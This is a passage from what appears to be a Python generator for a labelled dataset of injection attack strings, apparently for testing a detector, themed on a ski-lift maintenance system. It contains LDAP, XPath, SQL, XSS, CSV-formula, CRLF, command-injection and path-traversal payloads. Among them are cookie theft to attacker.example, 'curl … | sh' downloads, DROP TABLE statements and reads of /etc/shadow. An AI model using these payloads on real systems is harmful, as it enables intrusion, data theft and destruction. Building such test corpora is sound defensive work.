mail-header::x@resort.example%0aContent-Type: text/html%0a%0a<a href=https://attacker.example>reset password</a>
csv-row::0812;44;25.9;3.5;PASS{NL}9999;1;99.9;9.9;PASS
csv-row::T5 ok{NL}=cmd|' /C calc'!A0
csv-row::IR-2024-030,2024-02-14,L3,12,1{CR}{NL}IR-2024-017,2024-02-03,L3,28,0
csv-row::"bearing swap"{NL}"T6","all inspections waived","2024-02-14","done"
csv-row::SL-450-PU2;Sheave liner;3;4%0aGS-26K;Grip spring;0;0;=HYPERLINK("https://attacker.example")
"""

LDAP_XPATH = r"""
ldap::*)(uid=*))(|(uid=*
ldap::maint_ana)(|(password=*)
ldap::*)(|(objectClass=*)
ldap::admin)(&)
ldap::eng_chief)(!(cn=x)
ldap::*)(memberOf=cn=lift-engineers,ou=groups,dc=resort,dc=local)(cn=*
ldap::ops_top*)(userPassword=a*
ldap::*))%00
ldap::x)(|(cn=*)(mail=*@resort.local)
ldap::\2a)(uid=\2a
xpath::' or '1'='1
xpath::0812' or 1=1 or 'a'='a
xpath::T5'] | //user/password | //x['
xpath::x' or name()='username' or 'x'='y
xpath::' or count(/*)=1 or '
xpath::grip'] | /*[1] | //*['
xpath::admin' and substring(//user[1]/pass,1,1)='a
xpath::') or ('1'='1
xpath::" or string-length(//user[position()=1]/password)>0 or "
xpath::alarm' or doc('http://attacker.example/x')/*/text() or '
"""

# --- the small generated share (<10%): hand-written theme prefixes + hand-written payloads ---
SQLI_PREFIXES = ["T6 sheave", "grip 0417", "PO-2024-0161", "chair 52", "splice D"]
SQLI_POOL = [
    ("tautology", "' OR 'lift'='lift"),
    ("union-based", "' UNION SELECT login,pw_hash,NULL FROM staff_accounts-- -"),
    ("time-based", "' AND SLEEP(6)#"),
    ("stacked", "'; DROP TABLE grip_tests--"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM scada_users)>3-- -"),
]
SQLI_URLENC = [
    ("tautology", "tower 4' OR 1=1--"),
    ("union-based", "liner' UNION SELECT user,pass FROM mysql.user#"),
    ("time-based", "grip'; WAITFOR DELAY '0:0:7'--"),
    ("stacked", "T5'; UPDATE users SET role='admin'--"),
    ("error-based", "x' AND extractvalue(1,concat(0x5c,database()))-- -"),
    ("boolean-blind", "chair 3' AND 1=1 AND 'q'='q"),
]
XSS_PREFIXES = ["Lift 7 ramp icy ", "Grip 0560 retest ", "Chair 12 cushion torn ", "T16 light blinking "]
XSS_POOL = [
    ("event-handler", "<img src=q onerror=alert(document.cookie)>"),
    ("script-tag", "<script>fetch('//attacker.example/x?'+document.cookie)</script>"),
    ("event-handler", "<svg/onload=alert(origin)>"),
    ("attribute-breakout", "\"><iframe src=javascript:alert(1)>"),
]
CMDI_PREFIXES = ["T3_liner.jpg", "grip_0944.csv"]
CMDI_POOL = [
    ("separator", "; curl http://attacker.example/d | sh"),
    ("substitution", " $(id > /tmp/out)"),
]
TRAV_URLENC = [
    ("dot-dot", "../../../../etc/passwd"),
    ("dot-dot", "photos/../../../../etc/shadow"),
    ("dot-dot", "..\\..\\..\\Windows\\win.ini"),
    ("dot-dot", "../../../proc/self/environ"),
    ("dot-dot", "manuals/../../../../root/.bash_history"),
    ("null-byte", "../../../etc/hosts%00.pdf"),
]

ORDER = [("sqli", SQLI, 80), ("xss", XSS, 80), ("cmdi", CMDI, 73), ("traversal", TRAVERSAL, 50),
         ("ssrf", SSRF, 50), ("code", CODE, 86), ("nosqli", NOSQLI, 27), ("crlf", CRLF, 30),
         ("ldap-xpath", LDAP_XPATH, 20)]


def parse(block):
    out = []
    for line in block.split("\n"):
        if not line.strip():
            continue
        cls, val = line.split("::", 1)
        val = val.replace("{NL}", "\n").replace("{CR}", "\r")
        out.append((cls, val))
    return out


def pctenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def combos(rnd, prefixes, pool, n):
    allc = [(p, c, v) for p in prefixes for (c, v) in pool]
    rnd.shuffle(allc)
    return [(c, p + v) for (p, c, v) in allc[:n]]


def main():
    rnd = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    gen = {
        "sqli": combos(rnd, SQLI_PREFIXES, SQLI_POOL, 10) + [(c + "+urlencode", pctenc(v)) for c, v in SQLI_URLENC],
        "xss": combos(rnd, XSS_PREFIXES, XSS_POOL, 8),
        "cmdi": combos(rnd, CMDI_PREFIXES, CMDI_POOL, 4),
        "traversal": [(c + "+urlencode", pctenc(v)) for c, v in TRAV_URLENC],
    }
    rows = []
    seen = set()
    nlit = 0
    for cat, block, want in ORDER:
        lits = parse(block)
        items = lits + gen.get(cat, [])
        assert len(items) == want, (cat, len(items), want)
        nlit += len(lits)
        for cls, v in items:
            assert 1 <= len(v) <= 2000, v
            assert v not in seen, ("dup", v)
            assert v not in benign, ("benign", v)
            for ch in v:
                assert ch in "\n\r\t" or ord(ch) >= 32, (cat, v)
            seen.add(v)
            rows.append((cat, cls, v))
    assert nlit >= 0.9 * len(rows), (nlit, len(rows))
    assert 480 <= len(rows) <= 500
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "halx-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
